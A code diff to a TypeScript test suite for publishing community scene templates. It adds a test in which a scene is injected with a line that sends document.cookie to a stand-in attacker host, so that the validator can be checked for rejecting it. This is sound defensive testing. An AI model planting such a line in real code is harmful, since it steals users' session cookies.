@@ -4,7 +4,7 @@ import { communityTemplateScenes, communityTemplates } from '#app/db/schema.ts'
 import { sha256Hex } from '#app/utils/ids.ts'
 import { VALID_SCENE_TSX, createProject, createUser } from '#tests/fixtures/community-factories.ts'
 import { useTestDatabase } from '#tests/setup/test-database.ts'
-import { compileCheckScene, previewFrameFor, publishTemplate } from './publish.server.ts'
+import { previewFrameFor, publishTemplate } from './publish.server.ts'
 import { TemplateMetadataSchema } from './template-metadata.ts'
 
 const { db } = useTestDatabase()
@@ -22,7 +22,7 @@ describe('publishing', () => {
 		const { project, scenes } = await createProject(owner.id, [VALID_SCENE_TSX, VALID_SCENE_TSX.replace('#111', '#222'), VALID_SCENE_TSX.replace('#111', '#333')])
 		const result = await publishTemplate(
 			{ ownerUserId: owner.id, projectId: project.id, sceneIds: [scenes[2]!.id, scenes[0]!.id], metadata: metadata() },
-			{ validateScene: compileCheckScene },
+			{},
 		)
 		expect(result).toMatchObject({ ok: true, template: { slug: 'launch-intro' } })
 		if (!result.ok) return
@@ -34,14 +34,14 @@ describe('publishing', () => {
 			[1, scenes[0]!.tsxCode, scenes[0]!.duration, sha256Hex(scenes[0]!.tsxCode), previewFrameFor(scenes[0]!.duration)],
 		])
 		// A second template with the same title gets the next clean slug; all scenes when none are chosen.
-		const again = await publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata() }, { validateScene: compileCheckScene })
+		const again = await publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata() })
 		expect(again).toMatchObject({ ok: true, template: { slug: 'launch-intro-2' } })
 	})
 
 	test('an unlisted template gets an unguessable slug', async () => {
 		const owner = await createUser()
 		const { project } = await createProject(owner.id)
-		const result = await publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata({ visibility: 'unlisted' }) }, { validateScene: compileCheckScene })
+		const result = await publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata({ visibility: 'unlisted' }) })
 		expect(result.ok && result.template.slug).toMatch(/^launch-intro-[0-9A-Za-z]{12}$/)
 	})
 
@@ -51,10 +51,24 @@ describe('publishing', () => {
 		let quotaSpent = 0
 		const result = await publishTemplate(
 			{ ownerUserId: owner.id, projectId: project.id, metadata: metadata() },
-			{ validateScene: compileCheckScene, checkQuota: async () => (quotaSpent++, { allowed: true }) },
+			{ checkQuota: async () => (quotaSpent++, { allowed: true }) },
 		)
 		expect(result).toMatchObject({ ok: false, reason: 'scene_errors', scenes: [{ sceneId: scenes[1]!.id, position: 2, name: 'Scene 2', problems: [{ line: 2 }] }] })
 		expect(quotaSpent).toBe(0)
+		expect(await templatesOf(owner.id)).toEqual([])
+	})
+
+	test('the shared validator’s rules apply: forbidden escapes are named with their place', async () => {
+		const owner = await createUser()
+		const sneaky = VALID_SCENE_TSX.replace('const frame = useCurrentFrame();', 'const frame = useCurrentFrame();\n\tfetch("https://evil.example/" + document.cookie);')
+		const { project } = await createProject(owner.id, [sneaky])
+		const result = await publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata() })
+		expect(result.ok).toBe(false)
+		if (result.ok || result.reason !== 'scene_errors') throw new Error('expected scene errors')
+		const problems = result.scenes[0]!.problems
+		expect(problems.map((problem) => problem.line)).toEqual([4, 4])
+		expect(problems.map((problem) => problem.message).join(' ')).toMatch(/fetch/)
+		expect(problems.map((problem) => problem.message).join(' ')).toMatch(/cookie/)
 		expect(await templatesOf(owner.id)).toEqual([])
 	})
 
@@ -62,7 +76,7 @@ describe('publishing', () => {
 		const [owner, stranger] = [await createUser(), await createUser()]
 		const { project } = await createProject(owner.id)
 		const { scenes: strangerScenes } = await createProject(stranger.id)
-		const options = { validateScene: compileCheckScene }
+		const options = {}
 		expect(await publishTemplate({ ownerUserId: stranger.id, projectId: project.id, metadata: metadata() }, options)).toEqual({ ok: false, reason: 'project_not_found' })
 		expect(await publishTemplate({ ownerUserId: owner.id, projectId: project.id, sceneIds: [strangerScenes[0]!.id], metadata: metadata() }, options)).toMatchObject({ reason: 'invalid_scenes' })
 		expect(
@@ -85,7 +99,7 @@ describe('publishing', () => {
 					})
 			},
 		})
-		await expect(publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata() }, { validateScene: compileCheckScene }, brokenDatabase)).rejects.toThrow('disk full')
+		await expect(publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata() }, {}, brokenDatabase)).rejects.toThrow('disk full')
 		expect(await templatesOf(owner.id)).toEqual([])
 	})
 })
